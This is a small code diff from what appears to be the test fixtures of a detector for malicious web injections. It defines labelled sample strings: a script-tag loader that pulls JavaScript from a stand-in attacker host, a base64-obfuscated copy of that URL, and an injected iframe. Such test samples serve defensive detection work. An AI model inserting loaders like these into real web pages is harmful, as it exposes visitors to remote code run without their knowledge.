@@ -140,7 +140,7 @@ LOADER = (
     "var s=document.createElement('script');s.src='https://cdn.jahat.example/a.js';"
     "document.head.appendChild(s);"
 )
-AGAIN = f"atob('{b64('https://cdn.jahat.example/a.js')}')"
+AGAIN = f"atob('{b64('https://cdn.jahat.example/mulai.js')}')"
 FRAME = "$('<iframe>',{src:'https://jahat.example/x'})STYLE.appendTo('body')"
 GUILTY = {
     "a loader": (LOADER, "loader"),
